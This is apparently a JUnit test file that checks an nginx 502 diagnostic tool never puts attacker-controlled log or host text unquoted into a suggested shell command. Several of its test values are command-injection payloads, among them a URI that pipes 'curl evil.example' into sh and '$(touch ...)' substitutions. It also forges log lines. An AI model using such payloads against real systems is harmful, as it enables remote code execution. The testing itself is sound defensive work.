package dev.chatops.checks.nginx502;

import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.chatops.checks.nginx502.fix.ShellWordsCheck;
import dev.chatops.core.spi.Cause;
import dev.chatops.core.spi.Diagnosis;
import dev.chatops.core.spi.Evidence;
import dev.chatops.core.spi.Fix;
import dev.chatops.core.spi.ProbeResult;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * Recorded evidence with a client's text written into every field nginx logs and every address and name
 * a config holds, run through the real parsers and rules: no suggested command may let a shell read that
 * text (it is single-quoted, a comment, or replaced by a placeholder), and no fix spans lines. Each hostile
 * value carries a marker, so the check sees where the text went however the parsers cut it.
 */
class HostileTextTest {

    private static final String MARK = "PWNQ";
    private static final String SHELL = ";|&$`'\"\\\n\r\u0000 ()<>*?[]{}#~!%\t=,:/.-_";
    private static final String[] ESCAPES = {"%0A", "%3B", "%7C", "%60", "%24", "%27", "%22", "%0D", "%00", "%2F", "%20"};
    /** The no-resolver recording with its errors turned into "NAME could not be resolved" (a resolver that fails). */
    private static final String UNRESOLVED_VARIANT = "dns-resolution-no-resolver+could-not-be-resolved";
    private static final String[] EVIDENCE = {"upstream-timeout", "upstream-closed-early", "upstream-closed-early-reset",
        "upstream-connect-timeout", "upstream-down-tcp", "upstream-down-unix", "upstream-down-systemd",
        "upstream-wrong-address-port", "upstream-wrong-address-socket", "upstream-wrong-address-localhost",
        "upstream-wrong-address-ipv6", "upstream-invalid-header", "upstream-ssl-verify", "upstream-ssl-handshake",
        "upstream-stale-dns", "protocol-mismatch-http-to-tls", "protocol-mismatch-https-to-plain",
        "protocol-mismatch-not-http", "protocol-mismatch-fastcgi-to-http", "socket-permission", "php-fpm-saturated",
        "no-live-upstreams", "dns-resolution-no-resolver", "dns-resolution-host-not-found", "buffer-too-small",
        "two-servers-one-failing", "worker-connections", "ephemeral-ports-exhausted", UNRESOLVED_VARIANT};

    private static final Pattern REQUEST = Pattern.compile("(request: \"[A-Z]+ )([^ \"]*)( HTTP/1\\.[01]\")");
    private static final Pattern UPSTREAM = Pattern.compile("(upstream: \"[a-z]+://)([^/\"]*)([^\"]*\")");
    private static final Pattern HOST = Pattern.compile("(host: \")([^\"]*)(\")");
    private static final Pattern SERVER = Pattern.compile("(server: )([^,]*)(, )");
    private static final Pattern ACCESS = Pattern.compile("(\"[A-Z]+ )([^ \"]*)( HTTP/1\\.[01]\")");
    private static final Pattern PASS = Pattern.compile("(_pass )([^;]*)(;)");
    private static final Pattern SERVER_LINE = Pattern.compile("(\\n\\s*server )([^;{]*)(;)");
    private static final Pattern NAME = Pattern.compile("(server_name )([^;]*)(;)");
    /** A name nginx could not resolve: with {@code proxy_pass http://$host} it is the client's Host header. */
    private static final Pattern UNRESOLVED = Pattern.compile("(: \\*\\d+ )(\\S+)( could not be resolved)");

    /** Recordings whose rules read names the host itself reports: units, users, sockets, programs, mounts. */
    private static final String NO_POOL_VARIANT = "socket-permission-no-pool";
    /** The failed unit's backend accepts connections again: the fix reads that unit's journal. */
    private static final String UP_NOW_VARIANT = "upstream-down-systemd-up-now";
    private static final String[] HOST_EVIDENCE = {"socket-permission", NO_POOL_VARIANT, UP_NOW_VARIANT,
        "apparmor-denied", "oom-killed", "resources-exhausted", "upstream-down-systemd", "upstream-down-unix",
        "upstream-wrong-address-socket", "php-fpm-saturated", "no-live-upstreams-backends-down", "upstream-down-tcp",
        "upstream-timeout", "upstream-closed-early", "selinux-denied", "fd-exhausted", "upstream-connect-timeout",
        "upstream-wrong-address-port", "upstream-wrong-address-upstream"};
    /**
     * Host-side fields, each replaced by the same hostile value wherever it occurs (so the config, the logs and
     * the host's tables still agree and the rules that read it still fire): the worker user, systemd unit names,
     * a socket's and a php-fpm config's file names, programs listening (ss) and programs the kernel killed,
     * AppArmor profiles and the names they denied, mount points.
     */
    private static final Pattern[] HOST_FIELDS = {
        Pattern.compile("()(www-data)()"),
        Pattern.compile("((?:\\n|Id=))([A-Za-z0-9][A-Za-z0-9@._-]*)(\\.service\\b)"),
        Pattern.compile("()(php-fpm\\.sock)()"),
        Pattern.compile("()(php-fpm\\.conf)()"),
        Pattern.compile("(users:\\(\\(\")([^\"\\n]*)(\")"),
        Pattern.compile("(Killed process \\d+ \\()([^)\\n]+)(\\))"),
        Pattern.compile("(task=)([^,\\n]+)(,)"),
        Pattern.compile("(profile=\")([^\"\\n]*)(\")"),
        Pattern.compile("( name=\")([^\"\\n]*)(\")"),
        Pattern.compile("(\\d%\\s+)(/\\S*)(\\n)")};

    private final Nginx502Check check = new Nginx502Check();

    @Test
    void hostileHostNames_neverReachACommandUnquoted() {
        Random random = new Random(0x5eed503L);
        List<String> problems = new ArrayList<>();
        int fixes = 0;
        int withMarker = 0;
        for (int round = 0; round < 16; round++) {
            for (String name : HOST_EVIDENCE) {
                Evidence hostile = mutateHost(load(name), random);
                Diagnosis d = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> check.diagnose(hostile),
                        name + " did not finish");
                for (Cause c : d.causes()) {
                    for (Fix f : c.fixes()) {
                        fixes++;
                        withMarker += f.text().contains(MARK) ? 1 : 0;
                        for (String p : ShellWordsCheck.problems(f.text(), f.kind() == Fix.Kind.COMMAND, MARK)) {
                            problems.add(name + " [" + c.id() + "]: " + p);
                        }
                    }
                }
            }
        }
        assertTrue(fixes > 200, "too few fixes to judge: " + fixes);
        assertTrue(withMarker > 0, "no fix carried a host's name: the mutation did not reach the rules");
        assertTrue(problems.isEmpty(), problems.size() + " unsafe fixes, e.g. " + problems.subList(0,
                Math.min(5, problems.size())));
        System.out.println("hostile host names: " + fixes + " fixes checked, " + withMarker + " carried them safely");
    }

    @Test
    void hostNamesWithShellSyntax_becomePlaceholders() {
        Map<String, List<String>> cases = new LinkedHashMap<>();
        cases.put("oom-killed", List.of("(Killed process \\d+ \\()([^)]+)(\\))", "x;touch${IFS}/tmp/PWNQ"));
        cases.put("resources-exhausted", List.of("(\\d%\\s+)(/)(\\n)", "/$(touch${IFS}/tmp/PWNQ)"));
        cases.put("apparmor-denied", List.of("(profile=\")([^\"]*)(\")", "/usr/sbin/ngi`PWNQ`nx"));
        cases.put("upstream-down-systemd", List.of("((?:\\n|Id=))(shop)(\\.service)", "shop;PWNQ"));
        cases.put(NO_POOL_VARIANT, List.of("()(www-data)()", "www$(PWNQ)"));
        cases.put(UP_NOW_VARIANT, List.of("((?:\\n|Id=))(shop\\.service)(\\s)", "shop$(PWNQ).service"));
        List<String> problems = new ArrayList<>();
        for (Map.Entry<String, List<String>> c : cases.entrySet()) {
            Pattern p = Pattern.compile(c.getValue().get(0));
            String value = c.getValue().get(1);
            Evidence e = load(c.getKey());
            Map<String, ProbeResult> probes = new LinkedHashMap<>();
            e.probes().forEach((k, r) -> probes.put(k, new ProbeResult(r.command(), r.exit(),
                    p.matcher(r.stdout()).replaceAll(m -> Matcher.quoteReplacement(m.group(1) + value + m.group(3))),
                    r.stderr(), r.ms(), r.truncated())));
            Diagnosis d = check.diagnose(new Evidence(e.check(), e.host(), e.collectedAt(), e.window(), probes));
            List<String> commands = d.causes().stream().flatMap(x -> x.fixes().stream())
                    .filter(f -> f.kind() == Fix.Kind.COMMAND).map(Fix::text).toList();
            assertTrue(!commands.isEmpty(), c.getKey() + ": " + d.summary());
            for (String command : commands) {
                ShellWordsCheck.problems(command, true, MARK).forEach(x -> problems.add(c.getKey() + ": " + x));
            }
        }
        assertTrue(problems.isEmpty(), String.join("\n", problems));
    }

    @Test
    void hostileFields_neverReachACommandUnquoted() {
        Random random = new Random(0x5eed502L);
        List<String> problems = new ArrayList<>();
        int fixes = 0;
        int withMarker = 0;
        for (int round = 0; round < 12; round++) {
            for (String name : EVIDENCE) {
                Evidence base = load(name);
                Evidence hostile = mutate(base, random);
                Diagnosis d = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> check.diagnose(hostile),
                        name + " did not finish");
                for (Cause c : d.causes()) {
                    for (Fix f : c.fixes()) {
                        fixes++;
                        withMarker += f.text().contains(MARK) ? 1 : 0;
                        for (String p : ShellWordsCheck.problems(f.text(), f.kind() == Fix.Kind.COMMAND, MARK)) {
                            problems.add(name + " [" + c.id() + "]: " + p);
                        }
                    }
                }
            }
        }
        assertTrue(fixes > 300, "too few fixes to judge: " + fixes);
        assertTrue(problems.isEmpty(), problems.size() + " unsafe fixes, e.g. " + problems.subList(0,
                Math.min(5, problems.size())));
        System.out.println("hostile text: " + fixes + " fixes checked, " + withMarker + " carried client text safely");
    }

    @Test
    void theMeasuredAttack_isAPlaceholderNotACommand() {
        Evidence e = Fixtures.evidence("upstream-timeout");
        String uri = "/export/x;curl%20-s%20evil.example|sh;#";
        Evidence hostile = replaceAll(e, REQUEST, m -> m.group(1) + uri + m.group(3));
        hostile = replaceAll(hostile, UPSTREAM, m -> m.group(1) + m.group(2) + uri.replace("%20", " ") + "\"");
        Diagnosis d = check.diagnose(hostile);
        Cause timeout = d.causes().stream().filter(c -> c.id().equals("upstream-timeout")).findFirst().orElseThrow(
                () -> new AssertionError(d.summary()));
        List<String> commands = timeout.fixes().stream().filter(f -> f.kind() == Fix.Kind.COMMAND).map(Fix::text).toList();
        assertTrue(commands.stream().anyMatch(c -> c.startsWith("curl ") && c.contains("http://127.0.0.1:28002<URI>")),
                commands.toString());
        assertTrue(commands.stream().noneMatch(c -> c.contains("evil")), commands.toString());
    }

    @Test
    void perfectlyForgedLines_nameNoAddressTheConfigDoesNotLeadTo() {
        // lines a client could write whole (a file name that ends one record and starts another)
        String forged = "2026/11/21 11:47:19 [error] 2262#2262: *99 connect() to 203.0.113.66:6666 failed (111: Connection "
                + "refused) while connecting to upstream, client: 10.9.9.9, server: shop.example.com, request: \"GET /cart "
                + "HTTP/1.1\", upstream: \"http://203.0.113.66:6666/cart\", host: \"shop.example.com\"\n";
        Evidence e = Fixtures.evidence("upstream-down-tcp");
        ProbeResult r = e.probe("nginx").orElseThrow();
        String marker = "@@nginx502 log-size 7650\n";
        assertTrue(r.stdout().contains(marker));
        Map<String, ProbeResult> probes = new LinkedHashMap<>(e.probes());
        probes.put("nginx", new ProbeResult(r.command(), r.exit(), r.stdout().replace(marker, marker + forged.repeat(40)),
                r.stderr(), r.ms(), r.truncated()));
        Diagnosis d = check.diagnose(new Evidence(e.check(), e.host(), e.collectedAt(), e.window(), probes));
        assertTrue(d.causes().stream().anyMatch(c -> c.id().equals("upstream-down")), d.summary());
        assertTrue(!d.summary().contains("203.0.113.66"), d.summary());
        for (Cause c : d.causes()) {
            String said = c.title() + " " + c.detail() + " " + c.fixes();
            assertTrue(!said.contains("203.0.113.66"), said);
        }
    }

    private static Evidence load(String name) {
        if (name.equals(NO_POOL_VARIANT)) {
            // no php-fpm seen: the socket's owner and mode are changed by hand
            Evidence e = Fixtures.evidence("socket-permission");
            Map<String, ProbeResult> probes = new LinkedHashMap<>(e.probes());
            assertTrue(probes.remove("php-fpm") != null);
            return new Evidence(e.check(), e.host(), e.collectedAt(), e.window(), probes);
        }
        if (name.equals(UP_NOW_VARIANT)) {
            Evidence e = Fixtures.evidence("upstream-down-systemd");
            Map<String, ProbeResult> probes = new LinkedHashMap<>(e.probes());
            probes.computeIfPresent("listen-tcp", (k, r) -> new ProbeResult(r.command(), r.exit(),
                    r.stdout().replace("127.0.0.1:28002", "127.0.0.1:28001"), r.stderr(), r.ms(), r.truncated()));
            probes.computeIfPresent("upstreams", (k, r) -> new ProbeResult(r.command(), r.exit(),
                    r.stdout().replaceFirst("tcp:127.0.0.1:28001 http exit=7 [^\n]*",
                            "tcp:127.0.0.1:28001 http exit=0  code=200 connect=0.000100 ttfb=0.001000"),
                    r.stderr(), r.ms(), r.truncated()));
            Evidence up = new Evidence(e.check(), e.host(), e.collectedAt(), e.window(), probes);
            assertTrue(new Nginx502Check().diagnose(up).causes().stream().flatMap(c -> c.fixes().stream())
                    .anyMatch(f -> f.text().startsWith("sudo journalctl -u shop.service --since ")), "no journal fix");
            return up;
        }
        if (!name.equals(UNRESOLVED_VARIANT)) {
            return Fixtures.evidence(name);
        }
        Evidence e = Fixtures.evidence("dns-resolution-no-resolver");
        Evidence v = replaceAll(e, Pattern.compile("(\\*\\d+ )no resolver defined to resolve ([^\\s,]+)"),
                m -> m.group(1) + m.group(2) + " could not be resolved (3: Host not found)");
        assertTrue(v.stdout("nginx").contains("api.internal.example could not be resolved (3: Host not found), client: "));
        return v;
    }

    static Evidence mutate(Evidence e, Random random) {
        Map<String, ProbeResult> probes = new LinkedHashMap<>(e.probes());
        for (Map.Entry<String, ProbeResult> p : e.probes().entrySet()) {
            if (!p.getKey().equals("nginx") && !p.getKey().startsWith("read-log.")) {
                continue;
            }
            String out = p.getValue().stdout();
            out = replace(out, REQUEST, random, 0.7);
            out = replace(out, UPSTREAM, random, 0.4);
            out = replace(out, HOST, random, 0.5);
            out = replace(out, SERVER, random, 0.2);
            out = replace(out, ACCESS, random, 0.5);
            out = replace(out, PASS, random, 0.3);
            out = replace(out, SERVER_LINE, random, 0.3);
            out = replace(out, NAME, random, 0.2);
            out = replace(out, UNRESOLVED, random, 0.7);
            ProbeResult r = p.getValue();
            probes.put(p.getKey(), new ProbeResult(r.command(), r.exit(), out, r.stderr(), r.ms(), r.truncated()));
        }
        return new Evidence(e.check(), e.host(), e.collectedAt(), e.window(), probes);
    }

    static Evidence mutateHost(Evidence e, Random random) {
        Map<String, String> chosen = new LinkedHashMap<>();
        Map<String, ProbeResult> probes = new LinkedHashMap<>();
        for (Map.Entry<String, ProbeResult> p : e.probes().entrySet()) {
            String out = p.getValue().stdout();
            for (Pattern field : HOST_FIELDS) {
                Matcher m = field.matcher(out);
                StringBuilder sb = new StringBuilder();
                while (m.find()) {
                    // a name with blanks breaks the host's column output: half of them stay one token
                    String value = chosen.computeIfAbsent(m.group(2), o -> random.nextDouble() < 0.7
                            ? (random.nextBoolean() ? hostile(random, o) : hostile(random, o).replaceAll("\\s", ""))
                            : o);
                    m.appendReplacement(sb, Matcher.quoteReplacement(m.group(1) + value + m.group(3)));
                }
                m.appendTail(sb);
                out = sb.toString();
            }
            ProbeResult r = p.getValue();
            probes.put(p.getKey(), new ProbeResult(r.command(), r.exit(), out, r.stderr(), r.ms(), r.truncated()));
        }
        return new Evidence(e.check(), e.host(), e.collectedAt(), e.window(), probes);
    }

    private static String replace(String text, Pattern p, Random random, double chance) {
        Matcher m = p.matcher(text);
        StringBuilder sb = new StringBuilder();
        while (m.find()) {
            String value = random.nextDouble() < chance ? hostile(random, m.group(2)) : m.group(2);
            m.appendReplacement(sb, Matcher.quoteReplacement(m.group(1) + value + m.group(3)));
        }
        m.appendTail(sb);
        return sb.toString();
    }

    /** A value built from the original, shell syntax, escapes, high bytes and the marker. */
    static String hostile(Random random, String original) {
        StringBuilder sb = new StringBuilder();
        if (random.nextBoolean()) {
            sb.append(original, 0, random.nextInt(original.length() + 1));
        }
        int parts = 1 + random.nextInt(6);
        for (int i = 0; i < parts; i++) {
            switch (random.nextInt(5)) {
                case 0 -> sb.append(SHELL.charAt(random.nextInt(SHELL.length())));
                case 1 -> sb.append(ESCAPES[random.nextInt(ESCAPES.length)]);
                case 2 -> sb.append((char) (0x80 + random.nextInt(0x780)));
                case 3 -> sb.append("x").append(random.nextInt(100));
                default -> sb.append(SHELL.charAt(random.nextInt(SHELL.length())));
            }
            if (i == parts / 2) {
                sb.append(MARK);
            }
        }
        return sb.toString();
    }

    private static Evidence replaceAll(Evidence e, Pattern p, java.util.function.Function<Matcher, String> with) {
        Map<String, ProbeResult> probes = new LinkedHashMap<>(e.probes());
        ProbeResult r = probes.get("nginx");
        Matcher m = p.matcher(r.stdout());
        StringBuilder sb = new StringBuilder();
        while (m.find()) {
            m.appendReplacement(sb, Matcher.quoteReplacement(with.apply(m)));
        }
        m.appendTail(sb);
        probes.put("nginx", new ProbeResult(r.command(), r.exit(), sb.toString(), r.stderr(), r.ms(), r.truncated()));
        return new Evidence(e.check(), e.host(), e.collectedAt(), e.window(), probes);
    }
}
